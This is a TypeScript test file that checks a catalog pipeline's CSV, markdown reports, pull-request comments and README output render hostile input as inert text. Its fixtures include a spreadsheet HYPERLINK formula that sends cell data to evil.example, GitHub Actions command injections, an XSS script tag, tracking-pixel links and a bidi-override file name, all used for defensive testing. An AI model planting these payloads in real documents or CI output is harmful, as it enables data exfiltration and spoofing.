/**
 * Every artifact that shows page text, built from test/fixtures/hostile/live-text (cells, headers,
 * codes and file names written to be live somewhere), read back as its reader would read it.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Nodes } from 'mdast';
import { compileCatalog } from '../../pipeline/compile';
import { diffCatalogSets } from '../../pipeline/diff';
import { formatMarkdown } from '../../pipeline/diff/format';
import { emitCsv } from '../../pipeline/emit/csv';
import { packageFiles } from '../../pipeline/emit/package';
import type { DiffReport } from '../../pipeline/generated/diff';
import type { DivergenceReport } from '../../pipeline/generated/divergences';
import type { CatalogSpec } from '../../pipeline/sources';
import { allNodes, inertText, parseMarkdown, tables } from '../helpers/markdown';
import { repoRoot } from '../helpers/reference';

const FIXTURE = join(repoRoot, 'test', 'fixtures', 'hostile', 'live-text');

/** The live-text pages compiled in memory, under the file names given (shown in reports). */
function compileLive(files: { zh: string; en: string } = { zh: 'sources/live/zh.md', en: 'sources/live/en.md' }, edit: (page: string, lang: string) => string = (p) => p) {
  const spec: CatalogSpec = {
    name: 'live',
    pages: (['zh', 'en'] as const).map((lang) => ({ lang, file: files[lang], bytes: Buffer.from(edit(readFileSync(join(FIXTURE, `${lang}.md`), 'utf8'), lang)) })),
    configPath: join(FIXTURE, 'catalog.json'),
    baselinePath: null,
  };
  return compileCatalog(spec);
}

describe('catalog.csv', () => {
  it('neutralises header cells as it does body cells', () => {
    const live = compileLive();
    const [header, ...rows] = parse(emitCsv(live.catalog)) as string[][];
    const hyperlink = '=HYPERLINK("https://evil.example/?q="&A2,"open")';
    expect(header).toContain(`'${hyperlink}_zh`);
    // A spreadsheet shows the text behind the apostrophe: the page's header, as written.
    expect(header!.filter((h) => h.startsWith("'")).map((h) => h.slice(1))).toEqual([`${hyperlink}_zh`, `${hyperlink}_en`]);
    expect(header!.filter((h) => /^[=+\-@\t\r\n]/.test(h))).toEqual([]);
    expect(rows.map((r) => r[header!.indexOf(`'${hyperlink}_zh`)])).toEqual(['x', "'+1", "'@SUM(A1)"]);
  });
});

/** File names a pull request can give pages (a backtick, a pipe, HTML, a mention; a backslash before a pipe). */
const HOSTILE_FILES = { zh: 'pages/zh`|<b>@octocat.md', en: 'pages/en\\|.md' };

/** Node types that would make page text live: links, images, footnotes, emphasis, quotes, code blocks. */
const LIVE_TYPES = ['link', 'image', 'linkReference', 'imageReference', 'footnoteReference', 'footnoteDefinition', 'definition', 'emphasis', 'delete', 'blockquote'];

/** Text as a report shows it in a table: controls but the line break escaped (ESC as \x1b, U+202E as \u202e). */
const shownControls = (text: string) =>
  text.replace(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/g, (c) => {
    const code = c.charCodeAt(0);
    return code <= 0xff ? `\\x${code.toString(16).padStart(2, '0')}` : `\\u${code.toString(16).padStart(4, '0')}`;
  });

/** A code span's text, or (for text no code span can hold in a table, see markdownCode) the cell's text. */
const codeOrText = (nodes: Nodes[]) => (nodes.length === 1 && nodes[0]!.type === 'inlineCode' ? nodes[0]!.value : inertText(nodes));

function expectNothingLive(markdown: string, html: string[] = ['<br>', '<!-- -->']): void {
  const nodes = allNodes(parseMarkdown(markdown));
  expect(nodes.filter((n) => LIVE_TYPES.includes(n.type)).map((n) => n.type)).toEqual([]);
  expect(nodes.filter((n) => n.type === 'html').map((n) => (n as { value: string }).value).filter((v) => !html.includes(v))).toEqual([]);
}

describe('divergences.md', () => {
  const live = compileLive(HOSTILE_FILES);
  const markdown = live.artifacts.get('live/divergences.md')!;
  const report = JSON.parse(live.artifacts.get('live/divergences.json')!) as DivergenceReport;
  const tree = parseMarkdown(markdown);

  it('holds nothing live: no link, image, footnote, emphasis of page text or HTML but its own <br>', () => {
    expectNothingLive(markdown);
    expect(allNodes(tree).filter((n) => n.type === 'heading').map((n) => inertText((n as { children: Nodes[] }).children))).toEqual([
      'Divergences in live',
      'message-mismatch (3)',
      // Values one language states and the other does not: URLs, "two", the 0 of an escape sequence, x^2's 2.
      'value-missing (5)',
      'unmapped-column (2)',
    ]);
    const pages = (tree.children[1] as { children: Nodes[] }).children;
    expect(pages.filter((n) => n.type === 'inlineCode').map((n) => (n as { value: string }).value)).toEqual([HOSTILE_FILES.zh, HOSTILE_FILES.en]);
  });

  it('shows each divergence message, text and location as the report holds it', () => {
    const items = allNodes(tree).filter((n) => n.type === 'listItem') as Array<{ children: Array<{ children: Nodes[] }> }>;
    expect(items).toHaveLength(report.divergences.length);
    report.divergences.forEach((d, i) => {
      const [severity, ...rest] = items[i]!.children[0]!.children;
      expect(inertText((severity as { children: Nodes[] }).children)).toBe(d.severity);
      // The message, then (without a texts table) a soft break and the locations as code spans.
      const codeAt = rest.findIndex((n) => n.type === 'inlineCode');
      const message = inertText(codeAt < 0 ? rest : rest.slice(0, codeAt)).replace(/^ /, '');
      // A message-mismatch names the differing words, so a bidi control in a text shows escaped here too.
      const shown = d.message.replace('\u202e', '\\u202e');
      expect(message).toBe(codeAt < 0 ? shown : `${shown}\n`);
      if (codeAt >= 0) expect(codeOrText(rest.slice(codeAt, codeAt + 1))).toBe(`${HOSTILE_FILES.zh}:5`);
    });
    const withTexts = report.divergences.filter((d) => d.texts);
    expect(tables(tree).slice(1).map(([head, where, texts]) => [head!.map((c) => inertText(c)), where!.map(codeOrText), texts!.map((c) => inertText(c))])).toEqual(
      withTexts.map((d) => [
        ['zh', 'en'],
        d.locations.map((l) => `${l.file}:${l.line}`),
        [shownControls(d.texts!.zh!), shownControls(d.texts!.en!)],
      ]),
    );
  });

  it('the fixture holds what it is meant to (links, mentions, HTML, line breaks, a bidi override)', () => {
    const texts = report.divergences.flatMap((d) => Object.values(d.texts ?? {}));
    expect(texts).toEqual(expect.arrayContaining([
      '# heading\n::error title=pwned::owned',
      '::warning::en\n##[error]two',
      '[click](https://evil.example/x) ![pixel](https://evil.example/p.png) @octocat #1 GH-2 www.evil.example https://evil.example/y mail@evil.example',
      '@octocat see [docs](https://evil.example/en) \u202etxt.exe',
      'a|b | `x` | c',
    ]));
    expect(report.divergences.map((d) => d.errorCode ?? '')).toContain('LIVE`|</td><td>x`.0002');
  });
});

describe('diff --format markdown (the pull-request comment)', () => {
  const now = compileLive(HOSTILE_FILES);
  // The old docs: without LIVE.0002's row, and with plain messages where the new ones are hostile.
  const before = compileLive(HOSTILE_FILES, (page) =>
    page
      .split('\n')
      .filter((line) => !line.includes('.0002'))
      .map((line) => line.replace(/^\|(\d+)\|([^|]*LIVE\.000[13])\|[^|]*\|/, '|$1|$2|plain|'))
      .join('\n'),
  );
  const report = diffCatalogSets({ label: 'old', catalogs: [before.catalog] }, { label: 'new', catalogs: [now.catalog] });
  const markdown = formatMarkdown(report);

  it('holds nothing live, and each row reads back as the change it reports', () => {
    expectNothingLive(markdown, ['<br>', '<!-- -->', '<b>', '</b>']);
    expect(report.changes.map((c) => c.kind)).toEqual(['message-changed', 'message-changed', 'message-changed', 'message-changed', 'code-added']);
    const [changed, added] = tables(parseMarkdown(markdown));
    const bold = { '<b>': '', '</b>': '' };
    expect(changed!.slice(1).map((row) => [inertText(row[0]!), codeOrText(row[1]!), inertText(row[2]!), inertText(row[3]!, bold), inertText(row[4]!, bold)])).toEqual(
      report.changes.slice(0, 4).map((c) => [c.catalog, c.errorCode, c.lang, c.old, String(c.new).replace(/\s+/g, ' ').replace('\u202e', '\\u202e')]),
    );
    expect(added!.slice(1).map((row) => row.map(codeOrText))).toEqual([['live', 'LIVE`|</td><td>x`.0002', '—', `${HOSTILE_FILES.zh}:8`]]);
  });

  it('a hostile catalog name, code, field and side stay text too', () => {
    const hostile: DiffReport = {
      old: 'git:main`|<b>x',
      new: 'sources @octocat',
      bump: 'patch',
      counts: { 'field-added': 1 },
      changes: [
        { kind: 'field-added', severity: 'info', fingerprint: '0', catalog: 'cat`|<img src=x>@team', errorCode: 'A\\|B `c`', field: '=HY|`x`@a [l](https://evil.example)', lang: 'zh', old: null, new: '**x**\n<b>y', message: 'm' },
      ],
    };
    const md = formatMarkdown(hostile);
    expectNothingLive(md, ['<br>', '<!-- -->', '<b>', '</b>']);
    const tree = parseMarkdown(md);
    const head = (tree.children[0] as { children: Nodes[] }).children.filter((n) => n.type === 'inlineCode').map((n) => (n as { value: string }).value);
    expect(head).toEqual(['git:main`|<b>x', 'sources @octocat']);
    const row = tables(tree)[0]![1]!;
    expect([inertText(row[0]!), codeOrText(row[1]!), inertText(row[2]!), inertText(row[3]!), inertText(row[4]!)]).toEqual([
      'cat`|<img src=x>@team',
      'A\\|B `c`',
      '=HY|`x`@a [l](https://evil.example) zh',
      '—',
      '**x**\n<b>y',
    ]);
  });
});

describe('the package README', () => {
  it('shows the description, languages and page names as text', () => {
    const live = compileLive(HOSTILE_FILES);
    const description = '  # Title\n@octocat [x](https://evil.example) <script>alert(1)</script> ![i](j) *em*  ';
    const readme = packageFiles(live.catalog, { name: '@evil/pkg', version: '1.0.0', description, license: 'MIT' }).get('README.md')!();
    expectNothingLive(readme);
    const [heading, about, facts] = parseMarkdown(readme).children as Array<{ type: string; children: Nodes[] }>;
    expect([heading!.type, inertText(heading!.children)]).toEqual(['heading', '@evil/pkg']);
    expect([about!.type, inertText(about!.children)]).toEqual(['paragraph', description.trim()]);
    const compiledFrom = allNodes(facts as Nodes).filter((n) => n.type === 'inlineCode').map((n) => (n as { value: string }).value);
    expect(compiledFrom).toEqual([HOSTILE_FILES.zh, HOSTILE_FILES.en]);
  });
});
